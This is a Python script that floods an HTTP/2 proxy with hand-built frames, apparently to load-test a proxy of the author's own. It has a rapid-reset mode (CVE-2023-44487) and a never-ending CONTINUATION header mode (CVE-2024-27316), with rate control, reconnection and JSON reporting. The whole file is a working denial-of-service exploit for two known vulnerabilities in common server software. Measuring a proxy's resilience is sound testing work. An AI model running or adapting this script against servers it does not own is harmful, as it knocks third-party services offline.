"""Floods of HTTP/2 frames at one address, from another address of this machine: flood.py KIND HOST:PORT SOURCE SECONDS FRAMES_PER_SECOND.
  reset         streams begun and reset at once (CVE-2023-44487)
  continuation  header blocks that never end (CVE-2024-27316)
Prints what was sent, as JSON. The rate is fixed: the point is what a frame costs the proxy, not who has more CPU. A real attacker has a machine of
its own; this one builds its frames beforehand and gets a core only while nobody else wants it (SCHED_IDLE), so that what the others lose,
they lose to the proxy."""
import json
import os
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BURSTS_PER_SECOND = 100
# :method POST, :scheme http, :path and :authority literal without indexing.
PATH = b"/fixpoint.v1.Generation/Generate"
HEADERS = b"\x83\x86" + b"\x04" + bytes([len(PATH)]) + PATH + b"\x01\x01a"


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def reset(number):
    """Headers that end the request, and the reset, of so many frames from stream 1 on."""
    return [frame(1, 5, 1 + i, HEADERS) + frame(3, 0, 1 + i, b"\0\0\0\x08") for i in range(0, number, 2)]


def continuation(number):
    """Headers without END_HEADERS, then what never ends."""
    return [frame(1, 0, 1, HEADERS)] + [frame(9, 0, 1, b"\x00\x01x\x01y" * 50)] * (number - 1)


def bursts_of(kind, seconds, rate):
    """What one connection sends if nobody closes it, a burst at a time."""
    pieces = {"reset": reset, "continuation": continuation}[kind](int(seconds * rate))
    size = max(1, len(pieces) // int(seconds * BURSTS_PER_SECOND))
    return [b"".join(pieces[i:i + size]) for i in range(0, len(pieces), size)]


def connect(target, source):
    connection = socket.create_connection(target, timeout=1, source_address=(source, 0))
    connection.sendall(PREFACE + frame(4, 0, 0))
    return connection


def main(kind, target, source, seconds, rate):
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    host, port = target.rsplit(":", 1)
    seconds, rate = float(seconds), int(rate)
    bursts = bursts_of(kind, seconds, rate)
    print("begun", flush=True)
    begin, cpu = time.monotonic(), time.process_time()
    sent_bytes = connections = closed = refused = 0
    connection, position = None, 0
    for tick in range(int(seconds * BURSTS_PER_SECOND)):
        time.sleep(max(0, begin + tick / BURSTS_PER_SECOND - time.monotonic()))
        try:
            if connection is None:
                connection, position = connect((host, int(port)), source), 0
                connections += 1
            connection.settimeout(1)
            connection.sendall(bursts[position])
            sent_bytes += len(bursts[position])
            position += 1
            connection.settimeout(0)
            try:
                while connection.recv(65536):
                    pass
                raise ConnectionResetError  # an orderly end
            except BlockingIOError:
                pass
        except OSError:  # also a proxy that does not read for a second
            if connection is None:
                refused += 1
            else:
                connection.close()
                closed += 1
            connection = None
    elapsed = time.monotonic() - begin
    frames = sent_bytes * int(seconds * rate) // sum(map(len, bursts))
    print(json.dumps({"frames": frames, "seconds": elapsed, "cpu_seconds": time.process_time() - cpu, "connections": connections,
                      "closed_by_proxy": closed, "refused": refused}))


if __name__ == "__main__":
    main(*sys.argv[1:])
